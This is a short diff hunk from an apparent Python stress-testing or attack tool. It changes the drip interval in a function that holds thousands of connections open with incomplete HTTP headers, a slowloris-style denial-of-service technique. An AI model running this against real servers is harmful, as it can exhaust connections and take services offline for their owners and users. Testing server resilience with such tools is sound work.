@@ -91,7 +91,7 @@ def slow_heads(target):
 
 def all_connections(target):
     """More than there are, if the server lets it."""
-    drip(target, lambda: b'GET / HTTP/1.1\r\nX-A: ', b'b', 1, connections=4500)
+    drip(target, lambda: b'GET / HTTP/1.1\r\nX-A: ', b'b', 4, connections=4500)
 
 
 def all_requests(target):
